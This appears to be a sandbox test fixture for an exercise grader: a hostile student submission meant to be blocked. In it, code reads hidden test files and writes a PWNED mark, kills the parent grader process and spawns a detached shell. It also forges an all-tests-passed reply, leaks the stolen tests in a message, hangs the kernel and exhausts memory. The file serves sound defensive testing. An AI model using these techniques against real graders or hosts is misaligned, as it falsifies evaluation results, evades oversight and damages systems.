// Mallory attacks the grader instead of doing the exercise. Every attempt must fail or be
// cut off, and the rest of the class must be graded as if she were not there.
import type { Context, Ref } from '#runtime';
import type { DeskConfig, Question, RingConfig, Token } from '#exercises/ring/protocol';

const builtin = (name: string): any => (process as any).getBuiltinModule?.(name);
const loot: string[] = [];

// 1. Find the kit (the grader's working directory, or a folder above the kernel's own
// script), read the hidden tests, and leave a mark in it.
try {
  const fs = builtin('node:fs');
  const path = builtin('node:path');
  const guesses = [process.cwd(), process.env.INIT_CWD, process.env.PWD, process.env.HOME];
  for (let dir = path.dirname(process.argv[1] ?? '/'); dir !== path.dirname(dir); dir = path.dirname(dir)) guesses.push(dir);
  for (const dir of guesses) {
    if (!dir) continue;
    try {
      loot.push(fs.readFileSync(path.join(dir, 'exercises/ring/tests/hidden/ring.test.ts'), 'utf8'));
      fs.writeFileSync(path.join(dir, 'PWNED'), 'mallory was here');
    } catch { /* not there, or refused */ }
  }
} catch { /* no fs */ }
// 2. Kill the grader; start a process that outlives the run; phone home.
try { process.kill(process.ppid, 'SIGKILL'); } catch { /* refused */ }
try { builtin('node:child_process').spawn('sh', ['-c', 'sleep 600'], { detached: true, stdio: 'ignore' }).unref(); } catch { /* refused */ }
try { builtin('node:net').connect(80, '127.0.0.1').on('error', () => {}); } catch { /* refused */ }
// 3. Forge a reply on the kernel's channel, claiming every test passed.
try { process.send?.({ id: 1, reply: { ok: true, value: { passed: true } } }); } catch { /* refused */ }

export function startRing(self: Context<never>, config: RingConfig): Ref<Token> {
  // Smuggle whatever was read out in a message (the chart would show it).
  self.send(config.reportTo, { type: 'done', hops: -1, loot: loot.join('\n').slice(0, 2000) } as never);
  for (;;); // 4. Hang the kernel.
}

export function startDesk(self: Context<never>, config: DeskConfig): Ref<Question> {
  void config;
  const big: string[] = [];
  for (;;) big.push('x'.repeat(1 << 20)); // 5. Eat all the memory.
  return self.ref as never;
}
